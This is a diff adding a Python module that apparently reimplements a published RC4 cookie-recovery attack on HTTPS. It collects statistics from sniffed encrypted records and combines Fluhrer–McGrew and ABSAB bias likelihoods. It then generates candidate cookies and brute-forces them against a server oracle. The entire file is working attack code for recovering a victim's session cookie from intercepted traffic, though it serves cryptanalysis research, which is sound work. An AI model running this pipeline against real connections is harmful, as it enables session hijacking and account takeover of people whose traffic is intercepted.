@@ -1,0 +1,259 @@
+"""The end-to-end HTTPS cookie-recovery attack (paper §6).
+
+Pipeline:
+
+1. **Layout** (§6.1): the MiTM manipulation fixes the cookie's keystream
+   position and surrounds it with known plaintext
+   (:class:`CookieLayout` captures the result).
+2. **Statistics** (§6.3): from each captured encrypted request, collect
+   (a) digraph counts at every position pair overlapping the cookie and
+   (b) ABSAB differential counts against known digraphs before and after
+   the cookie, for every usable gap up to 128.
+3. **Likelihoods** (§4.1-§4.3): per position pair, combine the
+   Fluhrer–McGrew likelihood (sparse eq 15) with one ABSAB likelihood
+   per gap (eq 24) by summation in log domain (eq 25).
+4. **Candidates** (§4.4, §6.2): run Algorithm 2 restricted to the
+   RFC 6265 cookie alphabet, producing candidates in decreasing
+   likelihood.
+5. **Brute force** (§6.2): walk the list against the server oracle.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+import numpy as np
+
+from ..biases.fluhrer_mcgrew import fm_biased_cells, position_to_counter
+from ..biases.mantin_absab import MAX_GAP, usable_gaps
+from ..core.candidates.viterbi import CandidateList, algorithm2
+from ..core.likelihood.absab import absab_log_likelihoods
+from ..core.likelihood.combine import combine_likelihoods
+from ..core.likelihood.digraph import digraph_log_likelihoods
+from ..errors import AttackError
+from .bruteforce import BruteForceOracle
+from .connection import RecordSniffer
+from .cookies import COOKIE_CHARSET
+from .http import HttpRequestTemplate
+
+
+@dataclass(frozen=True)
+class CookieLayout:
+    """Where the unknown cookie sits inside the known request plaintext.
+
+    Attributes:
+        prefix: known plaintext before the cookie value.
+        suffix: known plaintext after the cookie value.
+        cookie_len: number of unknown bytes.
+        base_offset: 1-indexed keystream position of the first request
+            byte (1 for a fresh connection).
+    """
+
+    prefix: bytes
+    suffix: bytes
+    cookie_len: int
+    base_offset: int = 1
+
+    @classmethod
+    def from_template(
+        cls, template: HttpRequestTemplate, cookie_len: int, *, base_offset: int = 1
+    ) -> "CookieLayout":
+        return cls(
+            prefix=template.prefix(),
+            suffix=template.suffix(),
+            cookie_len=cookie_len,
+            base_offset=base_offset,
+        )
+
+    @property
+    def request_len(self) -> int:
+        return len(self.prefix) + self.cookie_len + len(self.suffix)
+
+    @property
+    def cookie_span(self) -> tuple[int, int]:
+        """Inclusive 1-indexed keystream span of the unknown bytes."""
+        start = self.base_offset + len(self.prefix)
+        return start, start + self.cookie_len - 1
+
+    @property
+    def stream_len(self) -> int:
+        """Last keystream position covered by the request."""
+        return self.base_offset + self.request_len - 1
+
+    def known_byte(self, position: int) -> int:
+        """The known plaintext byte at a keystream position.
+
+        Raises:
+            AttackError: if the position is inside the unknown span or
+                outside the request.
+        """
+        start, end = self.cookie_span
+        if start <= position <= end:
+            raise AttackError(f"position {position} is unknown (cookie byte)")
+        index = position - self.base_offset
+        if index < 0 or index >= self.request_len:
+            raise AttackError(f"position {position} outside the request")
+        if position < start:
+            return self.prefix[index]
+        return self.suffix[index - len(self.prefix) - self.cookie_len]
+
+    def transitions(self) -> list[int]:
+        """First positions r of the digraphs (r, r+1) Algorithm 2 needs:
+        from (last prefix byte, first cookie byte) through (last cookie
+        byte, first suffix byte)."""
+        start, end = self.cookie_span
+        if start <= self.base_offset:
+            raise AttackError("cookie must not start at the first keystream byte")
+        return list(range(start - 1, end + 1))
+
+
+@dataclass
+class CookieStatistics:
+    """Sufficient statistics for the §6 attack.
+
+    Attributes:
+        layout: the request layout these counts belong to.
+        fm_counts: int64 (num_transitions, 256, 256) ciphertext digraph
+            counts; row t is the digraph at transitions()[t].
+        absab_counts: maps (transition_index, gap, side) -> int64 65536
+            vector of ciphertext differential counts.
+        num_requests: requests accumulated.
+    """
+
+    layout: CookieLayout
+    fm_counts: np.ndarray
+    absab_counts: dict[tuple[int, int, str], np.ndarray]
+    num_requests: int = 0
+
+    @classmethod
+    def empty(cls, layout: CookieLayout, *, max_gap: int = MAX_GAP) -> "CookieStatistics":
+        transitions = layout.transitions()
+        fm_counts = np.zeros((len(transitions), 256, 256), dtype=np.int64)
+        absab: dict[tuple[int, int, str], np.ndarray] = {}
+        span = layout.cookie_span
+        for t, r in enumerate(transitions):
+            for gap, side in usable_gaps(
+                r, span, layout.stream_len, max_gap=max_gap
+            ):
+                absab[(t, gap, side)] = np.zeros(65536, dtype=np.int64)
+        return cls(layout=layout, fm_counts=fm_counts, absab_counts=absab)
+
+    def ingest_fragment(self, fragment: bytes, offset: int = 1) -> None:
+        """Update counts from one encrypted request fragment.
+
+        On a persistent connection successive requests start deeper in
+        the keystream; the attacker pads records to a multiple of 256
+        (the paper's 512-byte requests, §6.3) so every request sees the
+        same PRGA counter values.  Accordingly any offset congruent to
+        the layout's base modulo 256 is accepted — the Fluhrer–McGrew
+        model depends only on r mod 256 and ABSAB is position-free.
+
+        Args:
+            fragment: the RC4-encrypted record fragment (ciphertext).
+            offset: keystream position of the fragment's first byte.
+        """
+        layout = self.layout
+        if (offset - layout.base_offset) % 256 != 0:
+            raise AttackError(
+                f"fragment offset {offset} incompatible with layout base "
+                f"{layout.base_offset} modulo 256 — add request padding"
+            )
+        if len(fragment) < layout.request_len:
+            raise AttackError("fragment shorter than the request layout")
+
+        def cbyte(position: int) -> int:
+            return fragment[position - layout.base_offset]
+
+        transitions = layout.transitions()
+        for t, r in enumerate(transitions):
+            self.fm_counts[t, cbyte(r), cbyte(r + 1)] += 1
+        for (t, gap, side), counts in self.absab_counts.items():
+            r = transitions[t]
+            if side == "after":
+                p1, p2 = r + 2 + gap, r + 3 + gap
+            else:
+                p1, p2 = r - 2 - gap, r - 1 - gap
+            d1 = cbyte(r) ^ cbyte(p1)
+            d2 = cbyte(r + 1) ^ cbyte(p2)
+            counts[(d1 << 8) | d2] += 1
+        self.num_requests += 1
+
+    def ingest_sniffer(self, sniffer: RecordSniffer) -> None:
+        """Ingest every fragment a passive observer collected."""
+        for fragment, offset in zip(sniffer.fragments, sniffer.offsets):
+            self.ingest_fragment(fragment, offset)
+
+
+def transition_log_likelihoods(stats: CookieStatistics) -> np.ndarray:
+    """Combined FM + ABSAB log-likelihoods per transition (§4.3, eq 25).
+
+    Returns:
+        float64 (num_transitions, 256, 256) ready for Algorithm 2.
+    """
+    layout = stats.layout
+    transitions = layout.transitions()
+    total = float(stats.num_requests)
+    if total <= 0:
+        raise AttackError("no requests ingested")
+    loglik = np.empty((len(transitions), 256, 256), dtype=np.float64)
+    for t, r in enumerate(transitions):
+        cells = fm_biased_cells(position_to_counter(r))
+        mass = sum(p for _, p in cells)
+        uniform_p = (1.0 - mass) / (65536 - len(cells))
+        estimates = [
+            digraph_log_likelihoods(stats.fm_counts[t], cells, uniform_p, total)
+        ]
+        for (tt, gap, side), counts in stats.absab_counts.items():
+            if tt != t:
+                continue
+            if side == "after":
+                known = (layout.known_byte(r + 2 + gap), layout.known_byte(r + 3 + gap))
+            else:
+                known = (layout.known_byte(r - 2 - gap), layout.known_byte(r - 1 - gap))
+            estimates.append(absab_log_likelihoods(counts, gap, known, total))
+        loglik[t] = combine_likelihoods(*estimates)
+    return loglik
+
+
+def recover_candidates(
+    stats: CookieStatistics,
+    num_candidates: int,
+    *,
+    charset: bytes = COOKIE_CHARSET,
+) -> CandidateList:
+    """Likelihoods -> Algorithm 2 candidate list over the cookie alphabet."""
+    layout = stats.layout
+    loglik = transition_log_likelihoods(stats)
+    start, end = layout.cookie_span
+    first = layout.known_byte(start - 1)
+    last = layout.known_byte(end + 1)
+    return algorithm2(loglik, first, last, num_candidates, charset=charset)
+
+
+@dataclass(frozen=True)
+class CookieAttackResult:
+    """Outcome of the full §6 pipeline."""
+
+    cookie: bytes
+    rank: int
+    attempts: int
+    num_requests: int
+
+
+def run_attack(
+    stats: CookieStatistics,
+    oracle: BruteForceOracle,
+    *,
+    num_candidates: int = 1 << 23,
+    charset: bytes = COOKIE_CHARSET,
+) -> CookieAttackResult:
+    """Candidate generation plus brute force against the server oracle."""
+    candidates = recover_candidates(stats, num_candidates, charset=charset)
+    cookie, attempts = oracle.search(candidates.plaintexts)
+    rank = candidates.rank_of(cookie)
+    return CookieAttackResult(
+        cookie=cookie,
+        rank=rank if rank is not None else attempts - 1,
+        attempts=attempts,
+        num_requests=stats.num_requests,
+    )
